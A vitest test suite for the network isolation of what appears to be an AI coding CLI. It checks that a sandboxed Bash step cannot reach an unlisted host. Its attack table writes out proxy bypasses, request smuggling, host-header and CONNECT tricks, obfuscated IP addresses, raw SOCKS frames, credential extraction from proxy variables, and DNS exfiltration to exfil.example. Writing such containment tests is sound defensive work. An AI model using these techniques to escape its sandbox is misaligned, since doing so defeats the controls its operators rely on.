import { createSocket } from 'node:dgram';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, expect, test } from 'vitest';
import { NetworkPolicy } from '../../../src/adapter/index.js';
import { runCommand } from '../../../src/adapter/isolation/run-command.js';
import { setIsolatedStage } from '../support/isolated.js';
import type { Visits } from '../support/local-servers.js';
import { describeSandboxed } from '../support/sandbox.js';

const PORT = 8080;
/** The same server under both names: only the policy tells them apart. */
const [LISTED, OTHER] = [`localhost:${PORT}`, `127.0.0.1:${PORT}`];
/** `raw TEXT` says it to the HTTP proxy, with the password; `socks HEX` to the SOCKS proxy, after the greeting. */
const HELPERS = `
auth=$(printf %s "\${HTTP_PROXY#http://}" | sed 's/@.*//' | base64 -w0)
raw() { exec 9<> /dev/tcp/127.0.0.1/3128; printf "$1" | sed "s/AUTH/Proxy-Authorization: Basic $auth/" >&9; timeout 2 cat <&9; }
login=$(printf %s "\${FTP_PROXY#*://}" | sed 's/@.*//'); user=\${login%%:*} pass=\${login#*:}
socks() { exec 9<> /dev/tcp/127.0.0.1/1080; { printf '\\005\\001\\002'; sleep 0.2; printf '\\001'; printf "\\\\x$(printf %02x \${#user})"; printf %s "$user"; printf "\\\\x$(printf %02x \${#pass})"; printf %s "$pass"; sleep 0.2; printf "$1"; sleep 0.2; printf "$2"; } >&9; timeout 2 cat <&9; }
get() { curl -sS -m 4 --noproxy '' "$@"; }
`;
const HEX_PORT = '\\x1f\\x90';

/** Each asks for its own page of the host that is not listed. */
const ATTACKS: readonly (readonly [name: string, lines: (path: string) => string])[] = [
  ['goes there directly', (path) => `curl -sS -m 3 --noproxy '*' http://${OTHER}${path}`],
  ['asks the HTTP proxy', (path) => `get -x "$HTTP_PROXY" http://${OTHER}${path}`],
  ['opens a tunnel', (path) => `get -p -x "$HTTP_PROXY" http://${OTHER}${path}`],
  ['asks the SOCKS proxy by name', (path) => `get -x "$FTP_PROXY" http://127.0.0.1.:${PORT}${path}`],
  ['asks the SOCKS proxy by address', (path) => `get -x "\${FTP_PROXY/socks5h/socks5}" http://${OTHER}${path}`],
  [
    'asks the SOCKS proxy in its fourth version',
    (path) =>
      `get -x "socks4a://127.0.0.1:1080" http://${OTHER}${path}; get -x socks4://127.0.0.1:1080 http://${OTHER}${path}`,
  ],
  [
    'hides the host behind a user',
    (path) =>
      `get -x "$HTTP_PROXY" "http://localhost@${OTHER}${path}"; get -x "$HTTP_PROXY" "http://localhost:${PORT}@${OTHER}${path}"`,
  ],
  [
    'hides the host behind a fragment',
    (path) =>
      `raw "GET http://${OTHER}${path}#@localhost/ HTTP/1.1\\r\\nHost: localhost\\r\\nAUTH\\r\\nConnection: close\\r\\n\\r\\n"`,
  ],
  [
    'names a listed host in the header',
    (path) =>
      `raw "GET http://${OTHER}${path} HTTP/1.1\\r\\nHost: ${LISTED}\\r\\nAUTH\\r\\nConnection: close\\r\\n\\r\\n"`,
  ],
  [
    'names two hosts in the header',
    (path) =>
      `raw "GET ${path} HTTP/1.1\\r\\nHost: ${LISTED}\\r\\nHost: ${OTHER}\\r\\nAUTH\\r\\nConnection: close\\r\\n\\r\\n"`,
  ],
  [
    'tunnels with a listed host in the header',
    (path) =>
      `raw "CONNECT ${OTHER} HTTP/1.1\\r\\nHost: ${LISTED}\\r\\nAUTH\\r\\n\\r\\nGET ${path} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"`,
  ],
  [
    'tunnels to two hosts at once',
    (path) =>
      `raw "CONNECT ${LISTED},${OTHER} HTTP/1.1\\r\\nAUTH\\r\\n\\r\\nGET ${path} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"; raw "CONNECT ${OTHER}@${LISTED} HTTP/1.1\\r\\nAUTH\\r\\n\\r\\nGET ${path} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"`,
  ],
  [
    'asks for a listed host first, on the same connection',
    (path) =>
      `raw "GET http://${LISTED}/ok HTTP/1.1\\r\\nHost: ${LISTED}\\r\\nAUTH\\r\\n\\r\\nGET http://${OTHER}${path} HTTP/1.1\\r\\nHost: ${OTHER}\\r\\nAUTH\\r\\nConnection: close\\r\\n\\r\\n"`,
  ],
  [
    'hides a request in the body of another one',
    (path) =>
      `raw "POST http://${LISTED}/ok HTTP/1.1\\r\\nHost: ${LISTED}\\r\\nAUTH\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://${OTHER}${path} HTTP/1.1\\r\\nHost: ${OTHER}\\r\\n\\r\\n"`,
  ],
  [
    'breaks the line of the request',
    (path) =>
      `raw "GET http://localhost:${PORT}/ok HTTP/1.1\\rHost: x\\nGET http://${OTHER}${path} HTTP/1.1\\r\\nAUTH\\r\\n\\r\\n"`,
  ],
  [
    'spells the address in numbers',
    (path) =>
      `for host in 0x7f.1 2130706433 0177.0.0.1 127.1 0 '[::ffff:7f00:1]'; do get -g -x "$HTTP_PROXY" "http://$host:${PORT}${path}"; get -g -x "$FTP_PROXY" "http://$host:${PORT}${path}"; done`,
  ],
  [
    'adds a dot, a NUL or an escape to the name',
    (path) =>
      `for host in 127.0.0.1%2e localhost%00.example 127.0.0.1%23localhost 'localhost..' ; do get -x "$HTTP_PROXY" "http://$host:${PORT}${path}"; done; raw "CONNECT 127.0.0.1\\0localhost:${PORT} HTTP/1.1\\r\\nAUTH\\r\\n\\r\\nGET ${path} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"`,
  ],
  ['asks without the password', (path) => `curl -sS -m 3 --noproxy '' -x http://127.0.0.1:3128 http://${OTHER}${path}`],
  [
    'speaks SOCKS with an address',
    (path) => `socks '\\005\\001\\000\\001\\x7f\\x00\\x00\\x01${HEX_PORT}' "GET ${path} HTTP/1.0\\r\\n\\r\\n"`,
  ],
  [
    'speaks SOCKS with a name that holds a NUL',
    (path) => `socks '\\005\\001\\000\\003\\x13127.0.0.1\\x00localhost${HEX_PORT}' "GET ${path} HTTP/1.0\\r\\n\\r\\n"`,
  ],
  [
    'speaks SOCKS with the sixth version of addresses',
    (path) =>
      `socks '\\005\\001\\000\\004\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\xff\\xff\\x7f\\x00\\x00\\x01${HEX_PORT}' "GET ${path} HTTP/1.0\\r\\n\\r\\n"`,
  ],
  [
    'has SOCKS listen or carry datagrams',
    (path) =>
      `socks '\\005\\002\\000\\001\\x7f\\x00\\x00\\x01${HEX_PORT}' "GET ${path} HTTP/1.0\\r\\n\\r\\n"; socks '\\005\\003\\000\\001\\x7f\\x00\\x00\\x01${HEX_PORT}' x`,
  ],
  [
    'tunnels to the proxy itself',
    (path) =>
      `raw "CONNECT localhost:3128 HTTP/1.1\\r\\nAUTH\\r\\n\\r\\nGET http://${OTHER}${path} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"; get -x "$HTTP_PROXY" --preproxy "$FTP_PROXY" http://${OTHER}${path}`,
  ],
  [
    'finds the proxies of the host by their ports',
    (path) =>
      `for port in $CLAUDE_CODE_HOST_HTTP_PROXY_PORT $CLAUDE_CODE_HOST_SOCKS_PROXY_PORT; do curl -sS -m 2 --noproxy '' -x http://127.0.0.1:$port http://${OTHER}${path}; done`,
  ],
];

const NAMES: readonly (readonly [name: string, lines: (name: string) => string])[] = [
  ['looks a name up', (name) => `getent hosts ${name}; getent ahosts ${name}`],
  [
    'asks the name server itself',
    (name) =>
      `perl -MIO::Socket::INET -e 'my ($ip) = map { /^nameserver\\s+(\\S+)/ } do { open(my $f, "<", "/etc/resolv.conf"); <$f> }; my $s = IO::Socket::INET->new(PeerAddr => $ip, PeerPort => 53, Proto => "udp") or exit 1; $s->send("\\1\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" . join("", map { chr(length) . $_ } split /\\./, "${name}") . "\\0\\0\\1\\0\\1")'`,
  ],
  ['asks the HTTP proxy for the name', (name) => `get -x "$HTTP_PROXY" http://${name}/`],
  ['tunnels to the name', (name) => `get -p -x "$HTTP_PROXY" https://${name}/`],
  ['asks the SOCKS proxy for the name', (name) => `get -x "$FTP_PROXY" http://${name}/`],
];

const visits: Visits = [];
const asked: string[] = [];
const uid = process.getuid?.();

describeSandboxed(`attacks on the network of the real CLI in bypass mode, as uid ${uid}`, () => {
  let hasNameServer = false;

  beforeAll(async () => {
    hasNameServer = await startNameServer();
    await listen();
    const stage = await setIsolatedStage([
      ['Bash', { command: 'bash ./network.sh', description: 'Attack', timeout: 600_000 }],
    ]);
    const tries = [
      `get -x "$HTTP_PROXY" http://${LISTED}/ok-http; get -p -x "$HTTP_PROXY" http://${LISTED}/ok-connect; get -x "$FTP_PROXY" http://${LISTED}/ok-socks`,
      ...ATTACKS.map(([, lines], at) => lines(`/secret-${at}-`)),
      ...NAMES.map(([, lines], at) => lines(`try-${at}.exfil.example`)),
    ];
    // Each in a shell of its own, all at once: most of the time they wait.
    tries.forEach((lines, at) => {
      writeFileSync(join(stage.cwd, `try-${at}.sh`), `${HELPERS}\n${lines}\n`);
    });
    const runner = 'sleep 2; for file in try-*.sh; do timeout 60 bash "$file" > "$file.said" 2>&1 & done; wait';
    writeFileSync(join(stage.cwd, 'network.sh'), runner);
    await stage.run({ networkPolicy: NetworkPolicy.withDomains('localhost') });
    if (process.env.ATTACKS_SAID === '1')
      tries.forEach((_, at) => {
        const text = readFileSync(join(stage.cwd, `try-${at}.sh.said`), 'latin1');
        console.info(at, text.slice(0, 150).replaceAll(/\s+/g, ' '));
      });
  }, 120_000);

  /** The servers of the helper go with a test; this one stays for all. */
  async function listen(): Promise<void> {
    const { createServer } = await import('node:http');
    const server = createServer(({ url = '' }, response) => {
      visits.push(url);
      response.end('a page');
    });
    await new Promise<void>((resolve) => server.listen(PORT, '127.0.0.1', resolve));
    server.unref();
  }

  test('the listed host is reached over HTTP, CONNECT and SOCKS', () => {
    for (const path of ['/ok-http', '/ok-connect', '/ok-socks']) expect(visits).toContain(path);
  });

  test.each(ATTACKS.map(([name], at) => [name, at] as const))(
    'held: a command that %s does not reach a host that is not listed',
    (_, at) => {
      expect(visits.filter((path) => path.includes(`/secret-${at}-`))).toEqual([]);
    },
  );

  test.each(NAMES.map(([name], at) => [name, at] as const))(
    'held: a command that %s tells no name server a name that is not listed',
    (_, at) => {
      expect(asked.filter((name) => name.includes(`try-${at}`))).toEqual([]);
    },
  );

  test('the name server of this test is the one of the machine', async ({ annotate }) => {
    // Only root of the name space can give the loopback the address.
    if (!hasNameServer) await annotate('no name server could be set: the names were refused without one');
    else expect(uid).toBe(0);
  });

  /** A server that notes what the machine asks its name server, and answers nothing. */
  async function startNameServer(): Promise<boolean> {
    const text = readFileSync('/etc/resolv.conf', 'utf8');
    const ip = /^nameserver\s+(\d+\.\d+\.\d+\.\d+)/m.exec(text)?.[1];
    if (ip === undefined) return false;
    const env = { PATH: `${process.env.PATH}:/usr/sbin:/sbin` };
    await runCommand('ip', ['addr', 'add', `${ip}/32`, 'dev', 'lo'], { env, timeoutMs: 5_000 });
    const socket = createSocket('udp4', (message) => asked.push(message.toString('latin1')));
    const isBound = await new Promise<boolean>((resolve) => {
      socket.once('error', () => resolve(false));
      socket.bind(53, ip, () => resolve(true));
    });
    if (!isBound) return false;
    socket.unref();
    await runCommand('getent', ['hosts', 'control.example'], { env, timeoutMs: 2_000 });
    return asked.some((message) => message.includes('control'));
  }
});
